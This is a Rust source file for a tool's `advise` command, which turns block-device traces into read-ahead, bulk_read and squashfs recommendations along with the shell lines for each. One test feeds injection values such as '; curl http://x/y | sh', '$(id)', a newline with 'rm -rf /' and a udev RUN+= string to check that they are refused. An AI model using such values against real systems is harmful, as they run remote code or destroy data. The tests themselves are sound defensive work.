//! `advise`: recommends changes for a recorded workload, with evidence, gain, risk and commands: all findings, and the effect of other
//! read-ahead settings.

use std::collections::{BTreeMap, BTreeSet};
use std::path::PathBuf;

use flashscope_analysis::Evidence;
use flashscope_analysis::findings::Finding;
use flashscope_cachesim::{Kernel, PAGE_BYTES};
use flashscope_output::quote;
use flashscope_predict::{
    Advice, Change, ErrorBar, ErrorPercents, Predictor, Recorded, Row, Seen, Silent, TRIED_KIB, Workload, advise,
    recorded_knob, silent,
};
use flashscope_report::terminal::text;
use flashscope_trace::{Device, Facts, FileId, Trace};
use schemars::JsonSchema;
use serde::Serialize;

use crate::anonymous;
use crate::args::{AdviseArgs, ClockArgs};
use crate::failure::Failure;
use crate::inputs::Inputs;
use crate::predict;
use crate::study::style;

mod apply;
mod findings;

/// Version of [`Printed`].
pub const SCHEMA: u32 = 1;

/// The output of `--json`.
#[derive(Serialize, JsonSchema)]
pub struct Printed<'a> {
    schema: u32,
    /// Findings, most important first.
    findings: &'a [Finding],
    /// Changes of read-ahead and related settings.
    advice: Vec<Weighed>,
    notes: Vec<String>,
    /// Missing if the trace has no read-ahead events; `notes` have the reason.
    #[serde(flatten)]
    readahead: Option<OfReadahead>,
}

#[derive(Serialize, JsonSchema)]
pub struct OfReadahead {
    /// The kernel line whose rules are used.
    model: &'static str,
    readahead_kib_now: Evidence<u64>,
    /// Requests of file systems or programs that the kernel ignores.
    silent: Vec<Silent>,
    /// Error of the model; null if unknown.
    error: Option<ErrorBar>,
    /// Error for a change of file-system options.
    error_other_options: Option<ErrorBar>,
}

/// Behind a queue, request times vary. With fewer pages than two default windows of the kernel (128 KiB), a single request would decide.
const MIN_PAGES: u64 = 64;

#[derive(Serialize, JsonSchema)]
pub struct Weighed {
    advice: Advice,
    /// Commands to type.
    lines: Vec<String>,
    risk: String,
}

pub fn run(args: &AdviseArgs, quiet: bool) -> Result<(), Failure> {
    if args.undo {
        return apply::undo(args, quiet);
    }
    let traces: Vec<PathBuf> = args.trace.iter().cloned().collect();
    let copies = anonymous::copies(&args.anonymize, &traces, &ClockArgs::default(), None)?;
    let path = copies.as_ref().map_or(&traces, |copies| &copies.traces).first().map_or("".as_ref(), PathBuf::as_path);
    // Opened only once, because it may be a pipe.
    let inputs = Inputs::one(Trace::open(path)?)?;
    let found = findings::of_trace(&inputs)?;
    let trace = &inputs.merged().sources()[0].trace;
    let workload = match predict::workload(trace, &args.model) {
        Ok(workload) => workload,
        Err(why) => {
            findings::print_only(&found, args.json, why)?;
            return if args.apply {
                apply::apply(args, quiet, trace.facts(), &findings::knobs(&found))
            } else {
                Ok(())
            };
        }
    };
    of_readahead(args, quiet, trace, &workload, &found)
}

/// Findings, followed by the effect of other read-ahead settings.
fn of_readahead(
    args: &AdviseArgs,
    quiet: bool,
    trace: &Trace,
    workload: &Workload,
    found: &[Finding],
) -> Result<(), Failure> {
    let (kernel, exact) = predict::model(trace, args.model.kernel_model.as_deref())?;
    let below = predict::storage(trace, workload, kernel, args.model.io_kib);
    let io_pages = below.io_pages;
    let predictor = Predictor::new(workload, below);
    let recorded = predictor.recorded(&TRIED_KIB);
    let pages = recorded.pages;
    let mut storage = FileStorage::of(trace.facts(), workload);
    let knob = recorded_knob(trace.facts(), &storage.knobs).map(|(_, said)| said);
    let (now, from) = set_now(args.now, knob, &predictor, &recorded);
    let filesystem = predict::mounted(trace, workload).unwrap_or_default();
    let error = predict::error_bar(kernel, &predictor, &filesystem, &args.model);
    let other = predict::error_bar_other_options(kernel, &predictor, &args.model);
    let worst = |bar: &Option<ErrorBar>| bar.as_ref().map(|bar| bar.time_worst_percent);
    let mut advice = advise(&predictor, now, ErrorPercents { window: worst(&error), options: worst(&other) });
    let row = predictor.row(now, &|_| false);
    let cases = silent(&Seen {
        facts: trace.facts(),
        workload,
        kernel,
        io_pages,
        now: &row,
        recorded,
        page_ns: predictor.costs.cost.map(|cost| cost.page_ns),
        knobs: &storage.knobs,
        synchronous: storage.synchronous,
    });
    let labels = predict::Labels::of(trace);
    let mut told: Vec<String> = cases.iter().map(|one| diagnosis(one, &labels)).collect();
    storage.weighed = storage.synchronous || predictor.costs.cost.is_some() || predictor.costs.queue.is_some();
    if let Some(queue) = predictor.costs.queue {
        told.extend(predict::queue_notes(workload, queue.device.known_bytes() < 256 << 10));
    }
    if !storage.weighed {
        told.push(not_weighed(&row));
    }
    // Behind a queue, an early page may save the reader nothing, and many small requests cost it more.
    let few = storage.weighed && !storage.synchronous && row.tally.pages() < MIN_PAGES;
    told.extend(few.then(|| too_few(row.tally.pages())));
    let is_off = storage.beside_others && from.is_some() && now == 0;
    told.extend(is_off.then(not_predicted));
    if from.is_none() || !storage.weighed || few || is_off {
        advice.retain(|one| !matches!(one.change, Change::SetReadahead { .. }));
    }
    let predicted = advice.iter().find_map(|one| match one.change {
        Change::SetReadahead { kib } => Some(kib),
        _ => None,
    });
    let found = findings::with_window(found, predicted, trace.facts(), &storage.knobs);
    told.extend(no_range(&advice, other.as_ref()));
    told.extend(predictor.overlap.map(predict::overlap_note).into_iter().chain(predict::windows_note(&predictor)));
    told.extend(predict::notes(workload, trace, kernel, exact));
    let readahead_kib_now = match from {
        Some(_) => Evidence::Known(now),
        None => several_settings_fit(pages),
    };
    if args.json {
        let risk_of = |one: &Advice| risk(one, &storage);
        let list =
            advice.iter().map(|one| Weighed { lines: lines(one, &storage), risk: risk_of(one), advice: one.clone() });
        let readahead =
            OfReadahead { model: kernel.name(), readahead_kib_now, silent: cases, error, error_other_options: other };
        let all = Printed {
            schema: SCHEMA,
            findings: &found,
            advice: list.collect(),
            notes: told,
            readahead: Some(readahead),
        };
        out!("{}", flashscope_report::json::any(&all));
        return Ok(());
    }
    findings::print(&found)?;
    let said = match &readahead_kib_now {
        Evidence::Known(now) => format!("{now} KiB, {}", from.unwrap_or_default()),
        Evidence::Unknown(why) => format!("unknown: {}; {}", why.missing, why.next),
    };
    out!("{}", text(&format!("Read-ahead now: {said}. Rules of Linux {}.", kernel.name()), &style(), 0, 0));
    if advice.is_empty() {
        out!("{}", text(nothing(&storage, few, is_off), &style(), 0, 0));
    }
    print(&advice, trace, &storage)?;
    print_bars(&advice, &error, &other, kernel)?;
    if !told.is_empty() {
        outln!("\nWhat this rests on");
    }
    for note in &told {
        out!("{}", text(note, &style(), 2, 4));
    }
    if args.apply {
        apply::apply(args, quiet, trace.facts(), &knobs(&found, predicted, &storage)?)?;
    }
    Ok(())
}

/// The devices of the files that are read, by number of pages. A device with less than a tenth of the pages holds the programs, and its
/// setting concerns other files. The flag says whether there are such devices.
fn devices(workload: &Workload) -> (Vec<Device>, bool) {
    let mut pages: BTreeMap<Device, u64> = BTreeMap::new();
    for file in workload.sizes.keys() {
        let added = workload.pages_added.get(file).copied().unwrap_or(0);
        if let Some(device) = file.device {
            *pages.entry(device).or_default() += added;
        }
    }
    let all: u64 = pages.values().sum();
    let (mut most, others): (Vec<_>, Vec<_>) =
        pages.into_iter().partition(|(_, of_device)| of_device.saturating_mul(10) >= all);
    most.sort_by_key(|(_, of_device)| std::cmp::Reverse(*of_device));
    (most.into_iter().map(|(device, _)| device).collect(), !others.is_empty())
}

/// The read-ahead during the recording in KiB, and its source. `None`: several settings explain the pages, and the value is the first of
/// them.
fn set_now(
    given: Option<u64>,
    knob: Option<u64>,
    predictor: &Predictor<'_>,
    recorded: &Recorded,
) -> (u64, Option<&'static str>) {
    let fits = recorded.fits_readahead_kib;
    // If a model does not explain the pages exactly, or does so with many windows, the recorded knob is more reliable.
    let knob = knob.filter(|&said| !predictor.recorded(&[fits, said]).shows_another_than(said));
    match (given, knob) {
        (Some(given), _) => (given, Some("as given with --now")),
        (None, Some(said)) => (said, Some("as the device was set")),
        (None, None) => (fits, recorded.fits_alone.then_some("inferred from the pages")),
    }
}

fn too_few(pages: u64) -> String {
    format!(
        "No read-ahead setting of the device is recommended: {} read in this trace, as few as the start of one \
         program takes. Record for longer.",
        if pages == 1 { "1 page was".to_owned() } else { format!("{pages} pages were") }
    )
}

fn not_weighed(row: &Row) -> String {
    format!(
        "No read-ahead setting is recommended: the device reads ahead while the program works, and the trace does not show what \
         its requests cost (record with --events block,cache,syscall). Of {} pages {} are read ahead and not used.",
        row.tally.pages(),
        row.tally.pages_unused
    )
}

/// For a device without read-ahead: the longer requests in the trace are from other devices and take other times.
fn not_predicted() -> String {
    "What turning read-ahead on brings is not predicted: the requests of this device in the trace are all short. Record once more with \
     read-ahead on, and compare: flashscope diff"
        .to_owned()
}

/// The error of predicted gains: each bar with a gain between its ends.
fn print_bars(
    advice: &[Advice],
    error: &Option<ErrorBar>,
    other: &Option<ErrorBar>,
    kernel: Kernel,
) -> Result<(), Failure> {
    let between = || advice.iter().filter(|one| one.gain_between_percent.is_some());
    for (bar, of_options) in [(error, false), (other, true)] {
        if let Some(bar) = bar.as_ref().filter(|_| between().any(|one| one.change.changes_options() == of_options)) {
            let worst = flashscope_report::worst(bar, kernel.name());
            out!("\n{}", text(&format!("Ranges: predictions may be off by {worst}"), &style(), 0, 0));
        }
    }
    Ok(())
}

fn several_settings_fit<T>(pages: u64) -> Evidence<T> {
    Evidence::unknown(
        format!("{pages} pages were read, and several settings explain them equally well, so no change is recommended"),
        "give the setting during the recording with --now KIB, or record with flashscope, which stores it",
    )
}

/// Why the gain of another mount option has no range; `None` if it has one.
fn no_range(advice: &[Advice], other: Option<&ErrorBar>) -> Option<String> {
    let bar = other.filter(|bar| bar.time_worst_percent >= 100.0)?;
    let unsure =
        |one: &Advice| one.change.changes_options() && one.time_then_ns.is_some() && one.gain_between_percent.is_none();
    advice.iter().any(unsure).then(|| {
        format!(
            "no range for another mount: the layout of the files is unknown, and without it times were up to {:.0} % off (use \
             --layout with a recording that read the files page by page)",
            bar.time_worst_percent
        )
    })
}

/// The settings below /sys: those that findings recommend, and the predicted window.
fn knobs(found: &[Finding], kib: Option<u64>, storage: &FileStorage) -> Result<Vec<(String, String)>, Failure> {
    let mut knobs = findings::knobs(found);
    if let Some(kib) = kib {
        if storage.knobs.is_empty() {
            return Err(Failure::new(
                "nothing is applied: the trace does not say which read-ahead setting belongs to its file system",
            ));
        }
        // The predicted window replaces a rule's default.
        knobs.retain(|(path, _)| !path.ends_with("/read_ahead_kb"));
        let path = |name: &String| (format!("/sys/class/bdi/{name}/read_ahead_kb"), kib.to_string());
        knobs.extend(storage.knobs.iter().map(path));
    }
    Ok(knobs)
}

/// Why no change of read-ahead is listed.
fn nothing(storage: &FileStorage, few: bool, is_off: bool) -> &'static str {
    match (storage.weighed, few) {
        _ if is_off => "Read-ahead is off. What turning it on brings is not predicted.",
        (true, true) => "Whether read-ahead is worth changing is unknown: too little was read.",
        (true, false) => "Nothing of read-ahead is worth changing: no setting of read-ahead gains more than 3 %.",
        (false, _) => "Nothing of read-ahead is worth changing, among the changes that can be weighed.",
    }
}

/// Prints the recommended changes of read-ahead.
fn print(advice: &[Advice], trace: &Trace, storage: &FileStorage) -> Result<(), Failure> {
    for (n, one) in advice.iter().enumerate() {
        let try_first = if may_lose(one) { "Only after a trial: " } else { "" };
        let tell = |what: &str, said: &str| text(&format!("{what}: {said}"), &style(), 3, 5);
        out!("\n{}", text(&format!("{}. {try_first}{}", n + 1, what(one, trace)), &style(), 0, 3));
        out!("{}", tell("Evidence", &evidence(one, trace)));
        out!("{}", tell("Gain", &gain(one)));
        out!("{}", tell("Risk", &risk(one, storage)));
        for line in lines(one, storage) {
            outln!("   {}", flashscope_report::visible(&line));
        }
    }
    Ok(())
}

/// A file's path if the recording has it, with inode number and device.
fn file_path(trace: &Trace, file: FileId) -> String {
    predict::Labels::of(trace).file(file)
}

/// Whether the change may also cost time.
fn may_lose(advice: &Advice) -> bool {
    advice.gain_between_percent.is_some_and(|[least, _]| least < 0.0)
}

fn what(advice: &Advice, trace: &Trace) -> String {
    match advice.change {
        Change::SetReadahead { kib: 0 } => "Turn read-ahead off".to_owned(),
        Change::SetReadahead { kib } => format!("Set read-ahead to {kib} KiB"),
        Change::BulkRead { on: true, kib } => format!("Mount UBIFS with bulk_read, and read-ahead at {kib} KiB"),
        Change::BulkRead { on: false, kib } => format!("Mount UBIFS without bulk_read, and read-ahead at {kib} KiB"),
        Change::SquashfsBlock { from_bytes, bytes } => {
            format!("Make the squashfs image with blocks of {} KiB instead of {}", bytes / 1024, from_bytes / 1024)
        }
        Change::AdviseRandom { file } => format!("Tell the kernel that {} is read at random", file_path(trace, file)),
    }
}

fn evidence(advice: &Advice, trace: &Trace) -> String {
    let mut text = format!("{} of {} pages are read ahead and ", advice.unused_pages_now, advice.pages_now);
    text += &match advice.pages_in_faults_now {
        Some(0) => "not used".to_owned(),
        None => "no read used them; the trace does not show whether a mapping did".to_owned(),
        Some(n) => {
            format!("no event shows their use; {n} were read around faults of mapped files, whose use leaves no event")
        }
    };
    if let Some(of_change) = evidence_of_change(advice) {
        text = format!("{of_change}; {text}");
    }
    if let Some(file) = advice.file {
        text += &format!(", most of {}", flashscope_report::visible(&file_path(trace, file)));
    }
    if let Some(tid) = advice.task {
        let name = trace.comm(tid, flashscope_trace::TimeNs(u64::MAX)).unwrap_or("?");
        text += &format!("; {} ({tid}) brings in most", flashscope_report::visible(name));
    }
    text
}

/// The evidence for this change.
fn evidence_of_change(advice: &Advice) -> Option<String> {
    match advice.change {
        Change::BulkRead { on: true, .. } => Some(format!(
            "{:.0} reads of flash for {} pages; {} bulk reads would bring in {} of {} pages with {:.0}",
            advice.flash_reads_now?,
            advice.pages_now,
            advice.bulk_then.reads,
            advice.bulk_then.pages,
            advice.pages_then,
            advice.flash_reads_then?
        )),
        Change::BulkRead { on: false, .. } => Some(format!(
            "{} bulk reads read {} data nodes and keep {} pages",
            advice.bulk_now.reads, advice.bulk_now.nodes, advice.bulk_now.pages
        )),
        Change::SquashfsBlock { from_bytes, bytes } if bytes < from_bytes => {
            let (block, pages) = ((from_bytes / PAGE_BYTES) as f64, advice.pages_now.max(1) as f64);
            let used = advice.pages_now.saturating_sub(advice.unused_pages_now) as f64 / pages * block;
            Some(format!(
                "a block brings in {block} pages, of which {used:.1} are used in the mean and {:.1} never",
                block - used
            ))
        }
        Change::SquashfsBlock { from_bytes, .. } => {
            Some(format!("files are read whole and in order, in blocks of {} pages", from_bytes / PAGE_BYTES))
        }
        _ => None,
    }
}

fn gain(advice: &Advice) -> String {
    if let Change::SquashfsBlock { from_bytes, bytes } = advice.change
        && bytes > from_bytes
    {
        let blocks = |pages: u64, bytes: u64| pages.div_ceil(bytes / PAGE_BYTES);
        return format!(
            "{} blocks to look up and decompress instead of {} ({} pages instead of {}), and a smaller image; time is not predicted",
            blocks(advice.pages_then, bytes),
            blocks(advice.pages_now, from_bytes),
            advice.pages_then,
            advice.pages_now
        );
    }
    let pages = format!("{} pages instead of {}", advice.pages_then, advice.pages_now);
    match (advice.time_now_ns, advice.time_then_ns) {
        (Some(now), Some(then)) => {
            let between = advice.gain_between_percent.map(|[least, most]| format!(", {least:.1} to {most:.1} %"));
            format!(
                "{:.1} % of the time in reads{} ({:.1} ms instead of {:.1}), {pages}",
                advice.gain_percent,
                between.unwrap_or_default() + if may_lose(advice) { " (it may lose: measure both)" } else { "" },
                then / 1e6,
                now / 1e6
            )
        }
        _ => format!("{:.1} % of pages ({pages}); the trace has no times of reads", advice.gain_percent),
    }
}

/// The devices of the files, and the knobs for them.
struct FileStorage {
    /// A few pages are from files on other devices.
    beside_others: bool,
    /// Directories in /sys/class/bdi.
    knobs: Vec<String>,
    shared: bool,
    synchronous: bool,
    /// The gains include the cost of requests.
    weighed: bool,
    /// Sources and targets of UBIFS mounts.
    ubifs: Vec<(String, String)>,
    /// Knobs in the trace with names that /sys cannot have: no command is offered for them.
    odd: Vec<String>,
}

impl FileStorage {
    fn of(facts: &Facts, workload: &Workload) -> FileStorage {
        let (devices, beside_others) = devices(workload);
        let mut storage = FileStorage {
            beside_others,
            knobs: Vec::new(),
            shared: false,
            synchronous: false,
            weighed: false,
            ubifs: Vec::new(),
            odd: Vec::new(),
        };
        let devices: Vec<String> = devices.iter().map(Device::to_string).collect();
        let bdis: Vec<&str> = facts.bdi.iter().filter_map(|bdi| bdi.name.as_deref()).collect();
        let mounts = |device| facts.mounts.iter().filter(move |mount| mount.device.as_ref() == Some(device));
        for (device, mount) in devices.iter().flat_map(|device| mounts(device).map(move |mount| (device, mount))) {
            let kind = mount.kind.as_deref().unwrap_or_default();
            storage.synchronous |= matches!(kind, "jffs2" | "ubifs" | "yaffs2");
            match kind {
                "jffs2" => {
                    storage.shared = true;
                    storage
                        .knobs
                        .extend(bdis.iter().find(|name| name.starts_with("mtd-")).map(|&name| name.to_owned()));
                }
                "ubifs" => {
                    let text = |said: &Option<String>| said.clone().unwrap_or_default();
                    storage.ubifs.push((text(&mount.source), text(&mount.target)));
                    storage.knobs.extend(bdis.iter().filter(|name| name.starts_with("ubifs_")).map(|&n| n.to_owned()))
                }
                _ => storage.knobs.push(device.to_owned()),
            }
        }
        let mut known = BTreeSet::new();
        storage.knobs.retain(|name| known.insert(name.clone()));
        // A trace is untrusted, and root types the recommended commands.
        let (knobs, odd) = storage.knobs.into_iter().partition(|name| quote::sysfs(name).is_some());
        FileStorage { knobs, odd, ..storage }
    }
}

fn risk(advice: &Advice, storage: &FileStorage) -> String {
    let mut text = match advice.change {
        Change::BulkRead { on: true, .. } => {
            "reads here and there that hit three pages in a row bring in up to 32; a bulk read needs a buffer of up to 130 KiB in one \
             piece; with read-ahead above 0 it reads flash many times over"
                .to_owned()
        }
        Change::BulkRead { on: false, .. } => "whole files read in order take more reads of flash".to_owned(),
        Change::SquashfsBlock { from_bytes, bytes } if bytes < from_bytes => {
            "the image must be rebuilt and gets larger: smaller blocks compress worse; the additional flash is not predicted"
                .to_owned()
        }
        Change::SquashfsBlock { .. } => {
            "the image must be rebuilt; a read of one page then reads and decompresses a larger block".to_owned()
        }
        Change::SetReadahead { .. } => "files that are open keep their window: start the program again".to_owned(),
        Change::AdviseRandom { .. } => "streams over this file are no longer read ahead".to_owned(),
    };
    if storage.shared && matches!(advice.change, Change::SetReadahead { .. }) {
        text += "; the setting applies to all MTD devices with JFFS2";
    }
    if !storage.weighed && !matches!(advice.change, Change::SquashfsBlock { .. }) {
        text += "; smaller windows make more requests, which is not weighed here";
    }
    text
}

/// Text in place of a command.
fn not_offered(what: &str, name: &str) -> String {
    format!(
        "not offered:  the trace names a {what} that cannot be typed safely: \"{}\"",
        flashscope_report::visible(name)
    )
}

/// Commands for a change, now and permanently.
fn lines(advice: &Advice, storage: &FileStorage) -> Vec<String> {
    match advice.change {
        Change::SetReadahead { kib } => {
            let names = if storage.knobs.is_empty() { vec!["MAJOR:MINOR".to_owned()] } else { storage.knobs.clone() };
            let mut lines: Vec<String> = storage.odd.iter().map(|name| not_offered("knob", name)).collect();
            for name in names {
                let knob = format!("/sys/class/bdi/{name}/read_ahead_kb");
                lines.push(format!("now:          echo {kib} > {knob}"));
                lines.push(format!("tmpfiles.d:   w {knob} - - - - {kib}"));
                lines.push(format!(
                    "udev rule:    SUBSYSTEM==\"bdi\", ACTION==\"add\", KERNEL==\"{name}\", ATTR{{read_ahead_kb}}=\"{kib}\""
                ));
            }
            lines
        }
        Change::BulkRead { on, kib } => {
            let option = if on { "bulk_read" } else { "no_bulk_read" };
            let mut lines = Vec::new();
            for (source, target) in &storage.ubifs {
                let typed =
                    target.starts_with('/').then(|| Some((quote::shell(target)?, quote::fstab(target)?))).flatten();
                let (Some((word, target)), Some(source)) = (typed, quote::fstab(source)) else {
                    lines.push(not_offered("mount point", target));
                    continue;
                };
                lines.push(format!("now:          mount -o remount,{option} {word}"));
                // ubifs_show_options does not show defaults: no option means no_bulk_read.
                lines.push(match on {
                    true => format!("fstab:        {source} {target} ubifs defaults,bulk_read 0 0"),
                    false => format!("fstab:        take bulk_read out of the options of {target}"),
                });
                if target == "/" {
                    lines.push(format!("command line: rootflags={option}"));
                }
            }
            lines.extend(
                storage
                    .knobs
                    .iter()
                    .map(|name| format!("now:          echo {kib} > /sys/class/bdi/{name}/read_ahead_kb")),
            );
            lines.extend(storage.odd.iter().map(|name| not_offered("knob", name)));
            lines
        }
        Change::SquashfsBlock { bytes, .. } => {
            vec![format!("mksquashfs ROOT IMAGE -b {bytes}, with the compressor and options of now")]
        }
        Change::AdviseRandom { .. } => {
            vec!["after open(): posix_fadvise(fd, 0, 0, POSIX_FADV_RANDOM);".to_owned()]
        }
    }
}

/// An ignored setting without an error message: what the trace shows, and what to do.
fn diagnosis(silent: &Silent, labels: &predict::Labels) -> String {
    let ms = |ns: f64| format!("{:.1} ms", ns / 1e6);
    match silent {
        Silent::WillNeedReadNothing { calls, pages_asked, file } => format!(
            "{calls} calls of posix_fadvise(WILLNEED), readahead() or madvise(WILLNEED) requested {pages_asked} pages, most of {}: \
             with read-ahead at 0 they read nothing here, and succeed. Read the file instead, or set read-ahead above 0.",
            labels.visible(*file)
        ),
        Silent::WillNeedCut { calls, longest_pages, window_pages, file } => format!(
            "{calls} calls of posix_fadvise(WILLNEED), readahead() or madvise(WILLNEED) requested up to {longest_pages} pages, most of \
             {}, and each read at most {window_pages}, the window: request smaller pieces.",
            labels.visible(*file)
        ),
        Silent::OldWindow { knob, knob_kib, pages_as_kib, pages } => format!(
            "{knob} was {knob_kib} KiB when the recording began, but all {pages} pages were read as with {pages_as_kib} KiB: files that \
             were open before the change keep their window. Start the program again."
        ),
        Silent::SharedKnob { knob, mounts, devices } => format!(
            "{knob} is one setting of all {devices} MTD devices: it applies to each mounted JFFS2 ({}).",
            if mounts.is_empty() { "none is".to_owned() } else { mounts.join(", ") }
        ),
        Silent::InTheReader { pages_ahead, pages, ahead_ns, time_ns } => {
            let time = match (ahead_ns, time_ns) {
                (Some(ahead), Some(time)) => format!(", some {} of {} in reads", ms(*ahead), ms(*time)),
                _ => String::new(),
            };
            format!(
                "This file system reads ahead in the reader itself: {pages_ahead} of {pages} pages are read ahead at its cost{time}."
            )
        }
        Silent::BulkReadInWindows { nodes, pages } => format!(
            "bulk_read with read-ahead: {nodes} data nodes are read from flash for {pages} pages, because the window's other pages are \
             locked meanwhile. Use one of the two."
        ),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use flashscope_cachesim::{Access, Kernel, NodeRuns, OpenId};
    use flashscope_predict::Storage as Below;
    use flashscope_predict::{Call, TaskAccess, Workload};
    use flashscope_trace::FileId;
    use flashscope_trace::TaskId;
    use serde_json::{Value, json};

    const FILE: FileId = FileId { device: Some(Device(14)), inode: 5 };

    fn whole_file() -> Workload {
        let mut workload = Workload { sizes: [(FILE, 200 * PAGE_BYTES)].into(), ..Workload::default() };
        for page in 0..200 {
            let access = Access::Read { offset: page * PAGE_BYTES, length: PAGE_BYTES };
            workload.steps.push(TaskAccess {
                tid: TaskId(7),
                file: FILE,
                open: OpenId(7),
                access,
                call: Some(page as u32),
            });
            let duration_ns = Some(300_000);
            workload.calls.push(Call {
                pages_added: 1,
                flash_reads: 3,
                duration_ns,
                ..Call::new(TaskId(7), FILE, false, workload.calls.len() as u64 * 10_000_000)
            });
        }
        workload
    }

    /// Programs are on another device than the data: a few of their pages do not concern the data's setting.
    #[test]
    fn the_device_of_most_pages_has_the_setting() {
        let other = FileId { device: Some(Device(15)), inode: 9 };
        for (pages, expected) in [(10, (vec![Device(14)], true)), (100, (vec![Device(14), Device(15)], false))] {
            let mut workload = whole_file();
            workload.sizes.insert(other, 1 << 20);
            workload.pages_added = [(FILE, 200), (other, pages)].into();
            assert_eq!(devices(&workload), expected);
        }
        assert_eq!(devices(&whole_file()), (vec![Device(14)], false));
    }

    #[test]
    fn of_two_devices_the_one_that_more_is_read_from_gives_the_setting() {
        let other = FileId { device: Some(Device(15)), inode: 9 };
        let mut workload = whole_file();
        workload.sizes.insert(other, 1 << 20);
        workload.pages_added = [(FILE, 100), (other, 200)].into();
        let mount = |device: u32| json!({"target": "/m", "type": "ext4", "device": format!("0:{device}")});
        let facts = json!({
            "mounts": [mount(14), mount(15)],
            "bdi": [{"name": "0:14", "read_ahead_kb": 128}, {"name": "0:15", "read_ahead_kb": 2560}],
        });
        let facts = Facts::of(&facts);
        assert_eq!(recorded_knob(&facts, &FileStorage::of(&facts, &workload).knobs), Some(("0:15", 2560)));
    }

    fn some_advice() -> Advice {
        let mut workload = whole_file();
        workload.nodes.runs.insert(FILE, NodeRuns::new(vec![], 30));
        workload.nodes.flash_pages = Some(2.0);
        advise(&Predictor::new(&workload, Below::new(Kernel::V6_1)), 0, ErrorPercents::default()).remove(0)
    }

    #[test]
    fn bulk_read_comes_with_the_lines_to_type() {
        let facts = json!({
            "mounts": [{"source": "ubi0:root", "target": "/", "type": "ubifs", "device": "0:14"}],
            "bdi": [{"name": "ubifs_0_0", "read_ahead_kb": 0}],
        });
        let mut workload = whole_file();
        workload.nodes.runs.insert(FILE, NodeRuns::new(vec![], 30));
        workload.nodes.flash_pages = Some(2.0);
        let predictor = Predictor::new(&workload, Below::new(Kernel::V6_1));
        let advice = &advise(&predictor, 0, ErrorPercents::default())[0];
        let storage = FileStorage::of(&Facts::of(&facts), &whole_file());
        let lines = lines(advice, &storage);
        let words = |line: &str| lines.iter().any(|one| one.ends_with(line));
        assert!(words(" mount -o remount,bulk_read /") && words("rootflags=bulk_read"), "{lines:?}");
        assert!(words(" ubi0:root / ubifs defaults,bulk_read 0 0"), "{lines:?}");
        assert!(words("echo 0 > /sys/class/bdi/ubifs_0_0/read_ahead_kb"), "{lines:?}");
        assert!(evidence_of_change(advice).is_some_and(|text| text.starts_with("600 reads of flash for 200 pages")));
    }

    /// A line's `mount` command, split into words by a shell.
    fn words(line: &str) -> Vec<String> {
        let script = format!("mount() {{ printf '%s\\0' \"$@\"; }}; {}", line.trim_start_matches("now:"));
        let said = std::process::Command::new("/bin/sh").args(["-c", &script]).output().expect("a shell");
        String::from_utf8_lossy(&said.stdout).split_terminator('\0').map(str::to_owned).collect()
    }

    #[test]
    fn names_of_a_trace_are_no_commands() {
        let facts = |target: &str, bdi: &str| {
            json!({
                "mounts": [{"source": "ubi0:root", "target": target, "type": "ubifs", "device": "0:14"}],
                "bdi": [{"name": bdi, "read_ahead_kb": 0}],
            })
        };
        let of = |change: Change, facts: &Value| {
            let advice = Advice { change, ..some_advice() };
            lines(&advice, &FileStorage::of(&Facts::of(facts), &whole_file()))
        };
        let attack = "; curl http://x/y | sh";
        for target in [format!("/mnt/{attack}"), "/mnt/`id`".into(), "/mnt/$(id)".into(), "/mnt/a b' ; x".into()] {
            let lines = of(Change::BulkRead { on: true, kib: 0 }, &facts(&target, "ubifs_0_0"));
            let mount = lines.iter().find(|line| line.contains("remount")).expect("a line");
            assert_eq!(words(mount), ["-o", "remount,bulk_read", &target], "{mount}");
            let fstab = lines.iter().find(|line| line.starts_with("fstab:")).expect("a line");
            let fields = fstab.strip_prefix("fstab:").expect("its head").split_whitespace().count();
            assert_eq!(fields, 6, "{fstab}");
        }
        for target in ["/mnt/a\nrm -rf /", "/mnt/\u{202e}x", "/mnt/\u{1b}[2J", "relative", ""] {
            let lines = of(Change::BulkRead { on: true, kib: 0 }, &facts(target, "ubifs_0_0"));
            assert!(lines[0].starts_with("not offered:") && !lines[0].contains('\n'), "{lines:?}");
            assert!(!lines.iter().any(|line| line.contains("remount")), "{lines:?}");
        }
        for bdi in [&format!("ubifs_{attack}"), "ubifs_\", RUN+=\"x", "ubifs_/../../../etc/x", "ubifs_*", "ubifs_a b"] {
            for change in [Change::SetReadahead { kib: 64 }, Change::BulkRead { on: true, kib: 0 }] {
                let lines = of(change, &facts("/", bdi));
                let typed = || lines.iter().filter(|line| !line.starts_with("not offered:"));
                assert!(lines.iter().any(|line| line.starts_with("not offered:  the trace names a knob")), "{lines:?}");
                assert!(!typed().any(|line| line.contains(bdi)), "{lines:?}");
            }
        }
    }

    #[test]
    fn squashfs_comes_with_the_command_and_its_risk() {
        let workload = whole_file();
        let below = Below { squashfs: [(Device(14), 8 << 10)].into(), ..Below::new(Kernel::V6_1) };
        let advice = advise(&Predictor::new(&workload, below), 0, ErrorPercents::default());
        let storage = FileStorage::of(&Facts::default(), &whole_file());
        let one = advice.last().expect("larger blocks");
        assert!(lines(one, &storage)[0].starts_with("mksquashfs ROOT IMAGE -b 131072"), "{advice:?}");
        assert!(gain(one).starts_with("7 blocks") && gain(one).contains("instead of 100"), "{}", gain(one));
        assert!(risk(one, &storage).contains("rebuilt"));
    }

    #[test]
    fn each_case_says_what_the_trace_shows() {
        let cases = [
            (Silent::WillNeedReadNothing { calls: 3, pages_asked: 77, file: FILE }, "77 pages"),
            (Silent::WillNeedCut { calls: 3, longest_pages: 99, window_pages: 32, file: FILE }, "up to 99"),
            (Silent::OldWindow { knob: "mtd-0".into(), knob_kib: 128, pages_as_kib: 0, pages: 5 }, "as with 0 KiB"),
            (Silent::SharedKnob { knob: "mtd-0".into(), mounts: vec!["/a".into()], devices: 4 }, "all 4 MTD devices"),
            (
                Silent::InTheReader { pages_ahead: 8, pages: 9, ahead_ns: Some(2e6), time_ns: Some(3e6) },
                "2.0 ms of 3.0 ms",
            ),
            (Silent::BulkReadInWindows { nodes: 960, pages: 32 }, "960 data nodes"),
        ];
        let labels = predict::Labels::default();
        for (case, words) in cases {
            let said = diagnosis(&case, &labels);
            assert!(said.contains(words), "{said}");
        }
    }
}
